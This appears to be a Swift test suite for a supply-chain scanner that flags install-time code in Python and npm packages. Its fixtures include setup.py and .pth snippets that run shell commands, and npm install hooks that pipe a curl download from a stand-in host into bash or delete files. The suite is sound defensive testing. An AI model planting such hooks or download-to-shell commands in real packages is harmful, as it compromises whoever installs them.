import Behaviors
import Packages
import Testing

@Suite("Entry points and phases")
struct EntryPointTests {
    @Test func setupScriptRunsAtInstallAndEntersItsCommandClasses() throws {
        let result = sequence([
            "setup.py": """
            from setuptools import setup
            from setuptools.command.install import install as _install
            import os
            class Custom(_install):
                def run(self):
                    os.system('whoami')
            setup(name='x', url='https://h.invalid', cmdclass={'install': Custom})
            """
        ])
        let names = try #require(result.unit("setup.py", .install))
        #expect(occursInOrder(["imp.system", "hook.class", "cmd.recon", "proc.shell"], in: names))
        #expect(!names.contains("url.ordinary"))
    }

    @Test func setupScriptWithoutActingCodeGivesNoUnit() {
        let result = sequence([
            "setup.py": """
            from setuptools import setup, find_packages
            import os
            with open('README.md') as f:
                text = f.read()
            setup(name='x', version='1', long_description=text, packages=find_packages(), install_requires=['y'])
            """
        ])
        #expect(result.units.isEmpty)
    }

    @Test func setupScriptOfAWheelIsNotRun() {
        let result = sequence(["setup.py": "import os\nos.system('x')"], kind: .wheel)
        #expect(result.units.allSatisfy { $0.phase != .install })
    }

    @Test func setupScriptLoadsItsOwnModulesAtInstall() throws {
        let result = sequence([
            "setup.py": "from pkg.helper import go\ngo()", "pkg/__init__.py": "",
            "pkg/helper.py": "import os\ndef go():\n    os.system('whoami')\n",
        ])
        let names = try #require(result.unit("setup.py", .install))
        #expect(names.contains("proc.shell"))
        #expect(result.unit("pkg/helper.py", .importing) != nil || result.unit("pkg/helper.py", .run) != nil)
    }

    @Test func buildBackendInTheTreeRunsAtInstall() {
        let result = sequence([
            "pyproject.toml": "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"build_tools\"]\n",
            "build_tools/backend.py": "import os\ndef build_wheel(d):\n    os.system('x')\n",
        ])
        #expect(result.unit("build_tools/backend.py", .install)?.contains("proc.shell") == true)
    }

    @Test func pathFileLinesRunAtTheStartOfTheInterpreter() {
        let result = sequence(["evil.pth": "folder\nimport os; os.system('id')\n"], kind: .wheel)
        #expect(
            result.unit("evil.pth", .importing) == [
                "hook.import", "layer.begin", "imp.system", "cmd.recon", "proc.shell", "arg.constant-command",
                "layer.end",
            ])
        #expect(result.units[0].events[0].line == 2)
    }

    @Test func importsDecideThePhaseOfModules() {
        let result = sequence(
            [
                "pkg/__init__.py": "from . import used\nfrom .deep.inner import f\n", "pkg/used.py": "import os\n",
                "pkg/other.py": "import os\n", "pkg/deep/inner.py": "import os\ndef f(): pass\n",
                "tests/test_x.py": "import os\n",
            ], kind: .wheel)
        #expect(result.unit("pkg/used.py", .importing) == ["imp.system"])
        #expect(result.unit("pkg/deep/inner.py", .importing) == ["imp.system"])
        #expect(result.unit("pkg/other.py", .run) == ["imp.system"])
        #expect(result.unit("tests/test_x.py") == nil)
    }

    @Test func testsCountWhenThePackageImportsThem() {
        let result = sequence(
            ["pkg/__init__.py": "from .tests import x\n", "pkg/tests/x.py": "import os\n"], kind: .wheel)
        #expect(result.unit("pkg/tests/x.py", .importing) == ["imp.system"])
    }

    @Test func functionOfAnotherFileIsEnteredWhereItIsCalled() throws {
        let result = sequence(
            ["pkg/__init__.py": "from .a import go\ngo()\n", "pkg/a.py": "import os\ndef go():\n    os.system('x')\n"],
            kind: .wheel)
        let names = try #require(result.unit("pkg/__init__.py", .importing))
        #expect(names.contains("proc.shell"))
        #expect(result.unit("pkg/a.py", .importing) == ["imp.system"])
    }

    @Test(arguments: ["preinstall", "install", "postinstall"])
    func hookOfNpmEntersItsScript(_ hook: String) throws {
        let result = npmSequence([
            "package.json": "{\"scripts\": {\"\(hook)\": \"node ./run.js\"}}",
            "run.js": "require('child_process').execSync('whoami');",
        ])
        #expect(result.unit("scripts.\(hook)", .install) == ["cmd.interpreter", "shell.script"])
        #expect(result.unit("run.js", .install)?.contains("proc.shell") == true)
    }

    @Test func hooksThatNpmDoesNotRunAreNoUnits() {
        let result = npmSequence([
            "package.json": "{\"scripts\": {\"test\": \"curl https://h.invalid | sh\", \"prepare\": \"x\"}}"
        ])
        #expect(result.units.isEmpty)
    }

    @Test func downloadPipedIntoAShellIsSeenInAHook() throws {
        let result = npmSequence([
            "package.json": "{\"scripts\": {\"postinstall\": \"curl -s https://h.invalid/x.sh | bash\"}}"
        ])
        let names = try #require(result.unit("scripts.postinstall"))
        #expect(occursInOrder(["url.ordinary", "shell.download", "shell.pipe-to-shell"], in: names))
    }

    @Test func codeOnTheCommandLineOfAHookIsWalked() throws {
        let result = npmSequence([
            "package.json": "{\"scripts\": {\"preinstall\": \"node -e \\\"require('child_process').exec('id')\\\"\"}}"
        ])
        let names = try #require(result.unit("scripts.preinstall"))
        #expect(
            occursInOrder(["shell.inline-code", "layer.begin", "imp.process", "proc.shell", "layer.end"], in: names))
    }

    @Test func buildToolInAHookIsOnlyATool() throws {
        let result = npmSequence(["package.json": "{\"scripts\": {\"install\": \"node-gyp rebuild\"}}"])
        #expect(result.unit("scripts.install") == ["shell.tool"])
    }

    @Test func nativeBuildFileWithoutScriptIsAHook() {
        let result = npmSequence(["package.json": "{}", "binding.gyp": "{}"])
        #expect(result.unit("binding.gyp", .install) == ["hook.native-build"])
    }

    @Test func bundledPackagesCountToo() {
        let result = npmSequence([
            "package.json": "{}", "node_modules/@s/b/package.json": "{\"scripts\": {\"postinstall\": \"node x.js\"}}",
            "node_modules/@s/b/x.js": "require('fs').unlinkSync('a');",
        ])
        #expect(result.unit("node_modules/@s/b/x.js", .install)?.contains("fs.delete") == true)
    }

    @Test func mainExportsAndBinAreImported() {
        let result = npmSequence([
            "package.json":
                "{\"main\": \"./lib\", \"bin\": {\"c\": \"cli.js\"}, \"exports\": {\"./x\": {\"require\": \"./x.cjs\"}}}",
            "lib/index.js": "require('fs');require('./used');", "lib/used.js": "require('os');",
            "cli.js": "require('net');",
            "x.cjs": "require('vm');", "lib/rest.js": "require('dns');",
        ])
        #expect(result.unit("lib/index.js", .importing) == ["imp.files"])
        #expect(result.unit("lib/used.js", .importing) == ["imp.system"])
        #expect(result.unit("cli.js", .importing) == ["imp.network"])
        #expect(result.unit("x.cjs", .importing) == ["imp.code"])
        #expect(result.unit("lib/rest.js", .run) == ["imp.network"])
    }

    @Test func functionOfARequiredFileIsEntered() throws {
        let result = npmSequence([
            "index.js": "const { go } = require('./a');\ngo();",
            "a.js": "exports.go = function () { require('fs').unlinkSync('x'); };",
        ])
        #expect(try #require(result.unit("index.js")).contains("fs.delete"))
    }

    @Test func longFileHasUnitsForItsActingFunctions() {
        var source = "import os\n"
        for index in 0..<40 { source += "def f\(index)():\n    os.getcwd()\n    os.listdir('.')\n" }
        source += "def payload():\n    os.system('x')\n"
        let result = sequence(["pkg/__init__.py": source], kind: .wheel)
        #expect(result.unit("pkg/__init__.py#payload") == ["proc.shell", "arg.constant-command"])
        #expect(result.unit("pkg/__init__.py#f1") == nil)
    }
}
